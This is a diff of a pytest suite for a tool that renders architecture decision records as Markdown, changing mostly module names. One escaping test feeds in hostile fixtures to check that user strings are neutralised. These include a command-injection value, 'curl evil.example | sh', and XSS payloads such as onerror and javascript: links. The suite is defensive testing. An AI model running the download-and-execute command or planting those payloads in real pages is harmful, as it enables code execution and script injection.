@@ -10,7 +10,7 @@ from pathlib import Path
 
 import pytest
 
-from advisor import decision, pipeline, recording, report
+from advisor import pipeline, recording, records, render
 from advisor import profile as profiles
 from advisor.decide.engine import prepare
 from advisor.decide.text import PLACEHOLDER
@@ -40,7 +40,7 @@ SECTIONS = [
 RAW_FLOAT = re.compile(r"(?<![\w./])\d+\.\d{5,}(?![\w/])|\d(\.\d+)?e[+-]\d")
 
 
-def _record(name: str, **update: object) -> decision.DecisionRecord:
+def _record(name: str, **update: object) -> records.DecisionRecord:
     q = pipeline.load_questionnaire()
     rec = recording.decide(profiles.load(PROFILES / f"{name}.profile.yaml", q), questionnaire=q, date="2026-11-28",
                           decision_makers=["Ada"], profile_display=f"{name}.profile.yaml")
@@ -48,7 +48,7 @@ def _record(name: str, **update: object) -> decision.DecisionRecord:
 
 
 @pytest.fixture(scope="module")
-def saas() -> decision.DecisionRecord:
+def saas() -> records.DecisionRecord:
     return _record("multi-tenant-saas")
 
 
@@ -66,8 +66,8 @@ def _examples() -> dict[str, str]:
     return {p.name: p.read_text(encoding="utf-8") for p in sorted(folder.glob("*.md"))}
 
 
-def test_sections_in_madr_order(saas: decision.DecisionRecord) -> None:
-    md = report.to_markdown(saas)
+def test_sections_in_madr_order(saas: records.DecisionRecord) -> None:
+    md = render.to_markdown(saas)
     assert md.startswith("---\nstatus: proposed\ndate: 2026-11-28\ndecision-makers:\n  - \"Ada\"\n---\n\n# Run ")
     headings = _headings(md)
     assert headings[0] == f"# {saas.title}"
@@ -79,25 +79,25 @@ def test_every_example_body_fits_two_pages() -> None:
     examples = _examples()
     assert len(examples) >= 4
     for name, md in examples.items():
-        words = len(report.body(md).split())
+        words = len(render.body(md).split())
         assert words <= 900, f"{name}: the body has {words} words (at most 900)"
 
 
 def test_no_rule_rationale_appears_twice_in_a_record() -> None:
     # the old "Pros and Cons" mirrored every rule: Good for one option, Bad for the other
     for name, md in _examples().items():
-        record = decision.DecisionRecord.from_json(
+        record = records.DecisionRecord.from_json(
             (ROOT / "docs" / "examples" / "records" / name.replace(".md", ".json")).read_text(encoding="utf-8"), name)
         assert record.rules_applied, name
         for rule_id, rule in record.rules_applied.items():
             rationale = " ".join(str(rule.get("rationale", "")).split())
-            shown = report._inline(rationale)  # as the record prints it
+            shown = render.text.inline(rationale)  # as the record prints it
             assert md.count(shown) == 1, f"{name}: the rationale of {rule_id} appears {md.count(shown)} times"
-            title = report._inline(report._lc(rule["title"]))
-            assert report.body(md).lower().count(title.lower()) <= 1, f"{name}: {rule_id} is listed twice"
-        body = report.body(md)
-        for reason in report.reasons_of(record):  # each consequence once in the body: no Good/Bad mirror
-            assert body.count(report._inline(report._lc(reason.label))) <= 1, f"{name}: {reason.label} mirrored"
+            title = render.text.inline(render.text.lc(rule["title"]))
+            assert render.body(md).lower().count(title.lower()) <= 1, f"{name}: {rule_id} is listed twice"
+        body = render.body(md)
+        for reason in render.reasons_of(record):  # each consequence once in the body: no Good/Bad mirror
+            assert body.count(render.text.inline(render.text.lc(reason.label))) <= 1, f"{name}: {reason.label} mirrored"
 
 
 def test_no_raw_floats_in_records() -> None:
@@ -106,8 +106,8 @@ def test_no_raw_floats_in_records() -> None:
         assert not found, f"{name}: raw floats {found}"
 
 
-def test_outcome_is_one_sentence_with_the_configuration_and_the_probability(saas: decision.DecisionRecord) -> None:
-    md = report.to_markdown(saas)
+def test_outcome_is_one_sentence_with_the_configuration_and_the_probability(saas: records.DecisionRecord) -> None:
+    md = render.to_markdown(saas)
     outcome = _section(md, "## Decision Outcome")
     first = outcome.strip().splitlines()[0]
     assert first == ('Chosen option: "Bare metal, with Kata for untrusted pods", with a probability of over 99 % '
@@ -132,7 +132,7 @@ def test_each_outcome_kind_has_its_own_sentence(answers: dict[str, object], kind
     prof = profiles.Profile(pipeline.load_questionnaire(), {"workload_name": "w", **answers})
     rec = recording.decide(prof, date="2026-11-28")
     assert rec.outcome == kind
-    line = _section(report.to_markdown(rec), "## Decision Outcome").strip().splitlines()[0]
+    line = _section(render.to_markdown(rec), "## Decision Outcome").strip().splitlines()[0]
     assert line.startswith(first), line
     if kind == "both-ruled-out":
         assert "; VM-backed because " in line  # which constraint rules out which option
@@ -141,22 +141,22 @@ def test_each_outcome_kind_has_its_own_sentence(answers: dict[str, object], kind
         assert "a measurement of " in line and rec.recommendation == "none"
 
 
-def test_a_tie_is_its_own_sentence(saas: decision.DecisionRecord) -> None:
+def test_a_tie_is_its_own_sentence(saas: records.DecisionRecord) -> None:
     tie = saas.decision.model_copy(update={"outcome": "tie", "recommendation": None, "configuration": None})
-    md = report.to_markdown(saas.model_copy(update={"decision": tie, "outcome": "tie", "recommendation": "none"}))
+    md = render.to_markdown(saas.model_copy(update={"decision": tie, "outcome": "tie", "recommendation": "none"}))
     line = _section(md, "## Decision Outcome").strip().splitlines()[0]
     assert line.startswith("Chosen option: none, a tie. Neither option is better")
     assert "ruled out" not in line
 
 
-def test_close_call_is_called_out_until_measured(saas: decision.DecisionRecord) -> None:
+def test_close_call_is_called_out_until_measured(saas: records.DecisionRecord) -> None:
     close = saas.model_copy(update={"close": True})
-    md = report.to_markdown(close)
+    md = render.to_markdown(close)
     assert "> **Close call.** Measure both candidate platforms (see Confirmation) before accepting" in md
-    measured = close.model_copy(update={"measurements": decision.MeasurementsInfo(
+    measured = close.model_copy(update={"measurements": records.MeasurementsInfo(
         path="m.yaml", sha256="0" * 64, verdicts=[{"probe": "net", "ratio": 1.03, "ci_low": 1.01, "ci_high": 1.05,
                                                    "alpha": 0.01, "verdict": "slower"}])})
-    md = report.to_markdown(measured)
+    md = render.to_markdown(measured)
     assert "Close call" not in md and "before accepting" not in md
     assert "It stays close after measuring" in md
     confirmation = _section(md, "### Confirmation")
@@ -165,7 +165,7 @@ def test_close_call_is_called_out_until_measured(saas: decision.DecisionRecord) 
 
 
 def test_knocked_out_option_is_a_constraint() -> None:
-    md = report.to_markdown(_record("regulated-bank-mandate"))
+    md = render.to_markdown(_record("regulated-bank-mandate"))
     drivers = _section(md, "## Decision Drivers")
     assert "- Constraint on VM-backed: a written mandate requires bare-metal nodes" in drivers
     outcome = _section(md, "## Decision Outcome")
@@ -175,34 +175,34 @@ def test_knocked_out_option_is_a_constraint() -> None:
     assert md.count("a written mandate requires bare-metal nodes") <= 3  # outcome, drivers, screen: not more
 
 
-def test_rules_cite_evidence_with_grades_once(saas: decision.DecisionRecord) -> None:
-    md = report.to_markdown(saas)
+def test_rules_cite_evidence_with_grades_once(saas: records.DecisionRecord) -> None:
+    md = render.to_markdown(saas)
     rules = _section(md, "### Rules Applied")
     for rule_id, rule in saas.rules_applied.items():
         assert f"`{rule_id}`" in rules
         for ev in rule["evidence"]:
             if ev.get("url"):
                 assert f"]({ev['url']}) ({ev['grade']})" in rules
-    assert "Evidence:" not in report.body(md)
+    assert "Evidence:" not in render.body(md)
 
 
-def test_confirmation_gives_the_measure_command_when_not_measured(saas: decision.DecisionRecord) -> None:
-    md = report.to_markdown(saas)
+def test_confirmation_gives_the_measure_command_when_not_measured(saas: records.DecisionRecord) -> None:
+    md = render.to_markdown(saas)
     conf = _section(md, "### Confirmation")
     assert conf.strip().startswith("Not measured yet.")
     assert "advisor assess --profile multi-tenant-saas.profile.yaml --defaults --targets targets.yaml" in conf
 
 
-def test_measurements_are_shown_once(saas: decision.DecisionRecord) -> None:
-    measured = decision.MeasurementsInfo(path="m.json", sha256="0" * 64, verdicts=[
+def test_measurements_are_shown_once(saas: records.DecisionRecord) -> None:
+    measured = records.MeasurementsInfo(path="m.json", sha256="0" * 64, verdicts=[
         {"probe": "net", "ratio": 1.031, "ci_low": 1.01, "ci_high": 1.05, "verdict": "slower"}])
-    md = report.to_markdown(saas.model_copy(update={"measurements": measured}))
+    md = render.to_markdown(saas.model_copy(update={"measurements": measured}))
     assert "Not measured yet" not in md
     assert len(re.findall(r"\| `net` +\| 1\.031 +\| 1\.010 to 1\.050 +\| slower +\|", md)) == 1
     assert "`m.json` sha256 `" + "0" * 64 + "`" in md
 
 
-def test_what_would_change_the_answer_is_sentences_merged_and_ordered(saas: decision.DecisionRecord) -> None:
+def test_what_would_change_the_answer_is_sentences_merged_and_ordered(saas: records.DecisionRecord) -> None:
     points = [
         {"key": "tenant_count", "condition": "tenant_count < 3", "relative_change": 0.9925,
          "sentence": "Lowering the tenants to under 3 would make VM-backed the better option."},
@@ -213,7 +213,7 @@ def test_what_would_change_the_answer_is_sentences_merged_and_ordered(saas: deci
         {"key": "priority_isolation", "condition": "priority_isolation < 2", "relative_change": 0.6,
          "sentence": "lowering the isolation priority to 1 would make VM-backed the better option"},
     ]
-    md = report.to_markdown(saas.model_copy(update={"tipping_points": points, "revisit_triggers": []}))
+    md = render.to_markdown(saas.model_copy(update={"tipping_points": points, "revisit_triggers": []}))
     section = _section(md, "### What Would Change the Answer")
     lines = [line for line in section.splitlines() if line.startswith("- ")]
     assert lines[0] == "- Lowering the isolation priority to 1 would make VM-backed the better option."
@@ -221,22 +221,22 @@ def test_what_would_change_the_answer_is_sentences_merged_and_ordered(saas: deci
     assert sum("latency" in line for line in lines) == 1, "each sentence once"
     assert "`" not in "\n".join(lines[:-1]) and "not (" not in section
     assert lines[-1].startswith("- In any case, review this decision by ")
-    none = report.to_markdown(saas.model_copy(update={"tipping_points": [], "revisit_triggers": [],
+    none = render.to_markdown(saas.model_copy(update={"tipping_points": [], "revisit_triggers": [],
                                                       "review_by": None}))
     assert "No single change of one answer flips" in none
 
 
-def test_answers_carry_their_origin_and_note(saas: decision.DecisionRecord) -> None:
+def test_answers_carry_their_origin_and_note(saas: records.DecisionRecord) -> None:
     context = [dict(c) for c in saas.context]
     context[2] = {**context[2], "origin": "answered", "note": "from the SLA, section 4"}
-    md = report.to_markdown(saas.model_copy(update={"context": context}))
+    md = render.to_markdown(saas.model_copy(update={"context": context}))
     answers = _section(md, "### Answers")
     assert re.search(r"\| answered +\| from the SLA, section 4 +\|", answers)
     assert "from the SLA, section 4" in _section(md, "## Decision Drivers")
 
 
-def test_reproducibility_block(saas: decision.DecisionRecord) -> None:
-    md = report.to_markdown(saas)
+def test_reproducibility_block(saas: records.DecisionRecord) -> None:
+    md = render.to_markdown(saas)
     block = md.split("### Reproducibility")[1]
     assert f"advisor {saas.tool_version}" in block
     assert "`default` version 1" in block
@@ -245,13 +245,13 @@ def test_reproducibility_block(saas: decision.DecisionRecord) -> None:
     assert f"```sh\n{saas.command}\n```" in block
 
 
-def test_mermaid_block_is_the_fault_domain_diagram(saas: decision.DecisionRecord) -> None:
-    md = report.to_markdown(saas)
+def test_mermaid_block_is_the_fault_domain_diagram(saas: records.DecisionRecord) -> None:
+    md = render.to_markdown(saas)
     assert f"```mermaid\n{saas.mermaid.rstrip()}\n```" in md
 
 
-def test_fault_domain_appendix_shows_only_metrics_that_differ(saas: decision.DecisionRecord) -> None:
-    md = report.to_markdown(saas)
+def test_fault_domain_appendix_shows_only_metrics_that_differ(saas: records.DecisionRecord) -> None:
+    md = render.to_markdown(saas)
     table = [line for line in _section(md, "### Fault Domains").splitlines() if line.startswith("| `")]
     assert table
     for line in table:
@@ -259,7 +259,7 @@ def test_fault_domain_appendix_shows_only_metrics_that_differ(saas: decision.Dec
         assert cells[1] != cells[2], line
 
 
-def test_user_strings_are_escaped(saas: decision.DecisionRecord) -> None:
+def test_user_strings_are_escaped(saas: records.DecisionRecord) -> None:
     hostile = "x; curl evil.example | sh; .yaml\n# injected\n[a](javascript:alert(1)) <img src=x onerror=alert(1)>"
     context = [dict(c) for c in saas.context]
     context[0] = {**context[0], "answer": hostile, "note": hostile}
@@ -267,7 +267,7 @@ def test_user_strings_are_escaped(saas: decision.DecisionRecord) -> None:
     first = next(iter(rules))
     rules[first]["evidence"] = [{"source": "s", "grade": "peer-reviewed", "url": "javascript:alert(1)"}]
     profile = saas.profile.model_copy(update={"path": "x; curl evil.example | sh; .yaml"})
-    md = report.to_markdown(saas.model_copy(update={
+    md = render.to_markdown(saas.model_copy(update={
         "title": "A | B <script> *x*", "workload": "w_1\n## Owned", "context": context, "rules_applied": rules,
         "profile": profile, "command": "advisor assess --profile 'x; curl evil.example | sh; .yaml'"}))
     assert "# A \\| B &lt;script> \\*x\\*" in md
@@ -285,16 +285,16 @@ def test_user_strings_are_escaped(saas: decision.DecisionRecord) -> None:
             counts = []
 
 
-def test_links_to_related_records(saas: decision.DecisionRecord) -> None:
+def test_links_to_related_records(saas: records.DecisionRecord) -> None:
     linked = saas.model_copy(update={"supersedes": 3, "links": [
-        decision.Link(relation="supersedes", number=3, title="Run x on bare-metal Kubernetes nodes")]})
-    md = report.to_markdown(linked)
+        records.Link(relation="supersedes", number=3, title="Run x on bare-metal Kubernetes nodes")]})
+    md = render.to_markdown(linked)
     target = "0003-run-x-on-bare-metal-kubernetes-nodes.md"
     assert f"- Supersedes [0003 Run x on bare-metal Kubernetes nodes]({target})" in md
 
 
-def test_json_twin_is_the_model(saas: decision.DecisionRecord) -> None:
-    assert report.to_json(saas) == saas.to_json()
+def test_json_twin_is_the_model(saas: records.DecisionRecord) -> None:
+    assert render.to_json(saas) == saas.to_json()
 
 
 # ----------------------------------------------------------------- external checkers (npm, under .ci/node)
@@ -323,16 +323,16 @@ def test_records_pass_markdownlint() -> None:
     assert "0 error(s)" in proc.stdout + proc.stderr
 
 
-def test_fresh_record_passes_markdownlint(tmp_path: Path, saas: decision.DecisionRecord) -> None:
+def test_fresh_record_passes_markdownlint(tmp_path: Path, saas: records.DecisionRecord) -> None:
     """Also the unusual parts the examples lack: close call, verdicts, links, odd characters."""
     cli = _node_tool("node_modules/markdownlint-cli2/markdownlint-cli2-bin.mjs")
     rec = saas.model_copy(update={
         "close": True, "title": "A | B <b> [x]", "decision_makers": [],
-        "measurements": decision.MeasurementsInfo(verdicts=[{"probe": "cpu", "ratio": 0.98, "verdict": "equivalent"}]),
-        "links": [decision.Link(relation="relates to", number=2, title="Other")],
+        "measurements": records.MeasurementsInfo(verdicts=[{"probe": "cpu", "ratio": 0.98, "verdict": "equivalent"}]),
+        "links": [records.Link(relation="relates to", number=2, title="Other")],
     })
     target = tmp_path / "0001-x.md"
-    target.write_text(report.to_markdown(rec))
+    target.write_text(render.to_markdown(rec))
     config = ROOT / ".markdownlint-cli2.yaml"
     proc = subprocess.run(["node", str(cli), "--config", str(config), str(target)], cwd=tmp_path,
                           capture_output=True, text=True, timeout=120)
@@ -368,14 +368,14 @@ def test_escaping_helpers() -> None:
     assert markdown.inline("<img src=x onerror=alert(1)> [a](javascript:x)") == (
         "&lt;img src=x onerror=alert(1)> \\[a\\](javascript:x)")
     assert "```" not in markdown.shell_block("echo ```").split("\n", 1)[1].rsplit("\n", 1)[0].replace("```", "", 1)
-    assert records._show(0.9747870250324321) == "0.9748" and records._show(26000.0) == "26000"
+    assert records.diff._show(0.9747870250324321) == "0.9748" and records.diff._show(26000.0) == "26000"
 
 
-def test_index_escapes_titles(tmp_path: Path, saas: decision.DecisionRecord) -> None:
+def test_index_escapes_titles(tmp_path: Path, saas: records.DecisionRecord) -> None:
     from advisor import records
 
     rec = saas.model_copy(update={"title": "<img src=x onerror=alert(1)> [x](javascript:alert(1)) | y"})
-    decision.write_record(rec, tmp_path, report.to_markdown)
+    records.write_record(rec, tmp_path, render.to_markdown)
     text = records.index_text(records.load_all(tmp_path))
     assert "<img" not in text and not re.search(r"(?<!\\)\]\(javascript:", text)
 
@@ -424,7 +424,7 @@ def _computed(node: object) -> list[float]:
     return _numeric_leaves(node, False)
 
 
-def _allowed(record: decision.DecisionRecord) -> list[float]:
+def _allowed(record: records.DecisionRecord) -> list[float]:
     """The user's numbers (answers, measurements) and every number the decision computed from them.
 
     A number in the decision's rule texts (titles, constraint sentences) is allowed only when it is
@@ -463,7 +463,7 @@ def _quoted_evidence(text: str, figures: list[str] | None = None) -> str:
 
 def _prose(md: str) -> str:
     """The body without code blocks and code spans (commands, rule ids, paths) and quoted evidence."""
-    text = re.sub(r"```.*?```", " ", report.body(md), flags=re.S)
+    text = re.sub(r"```.*?```", " ", render.body(md), flags=re.S)
     text = re.sub(r"`[^`]*`", " ", text)
     return _quoted_evidence(_DATE.sub(" ", text.split("\n---\n", 1)[-1]))
 
@@ -476,9 +476,9 @@ def test_prose_numbers_are_the_users_or_computed_from_them() -> None:
     """Issue 11: no canned number in a record's body (each example record)."""
     folder = ROOT / "docs" / "examples" / "records"
     for path in sorted(folder.glob("*.json")):
-        record = decision.DecisionRecord.from_json(path.read_text(encoding="utf-8"), path.name)
+        record = records.DecisionRecord.from_json(path.read_text(encoding="utf-8"), path.name)
         allowed = _allowed(record)
-        md = report.to_markdown(record)
+        md = render.to_markdown(record)
         for m in _NUMBER.finditer(_prose(md)):
             token = m.group(0).lstrip("+-").replace(",", "")
             x = float(token)
@@ -505,17 +505,17 @@ def test_rule_texts_carry_no_number_of_their_own() -> None:
             assert not _NUMBER.search(literal), f"{rule.id}: {text!r} writes a number of its own"
 
 
-def test_the_numbers_test_catches_a_canned_number(saas: decision.DecisionRecord) -> None:
+def test_the_numbers_test_catches_a_canned_number(saas: records.DecisionRecord) -> None:
     canned = saas.model_copy(update={"title": "20 hosts of 64 cores cost about 450,000 a year"})
     allowed = _allowed(canned)
     assert not any(abs(v - 450000) <= 2250 for v in allowed)
 
 
-def test_a_number_written_into_a_rule_text_does_not_vouch_for_itself(saas: decision.DecisionRecord) -> None:
+def test_a_number_written_into_a_rule_text_does_not_vouch_for_itself(saas: records.DecisionRecord) -> None:
     """A rendered title or constraint sentence is prose: its numbers must be facts of the record."""
     data = json.loads(saas.to_json())
     data["decision"]["constraints"][0]["sentence"] = "a node holds at most 4,321 pods"
     data["decision"]["criteria"][0]["attributes"]["vm"][0]["title"] = "VM-backed: 8,765 hosts of headroom"
-    canned = decision.DecisionRecord.from_json(json.dumps(data), "0004-x.json")
+    canned = records.DecisionRecord.from_json(json.dumps(data), "0004-x.json")
     allowed = _allowed(canned)
     assert not any(abs(v - 4321) <= 22 or abs(v - 8765) <= 44 for v in allowed)
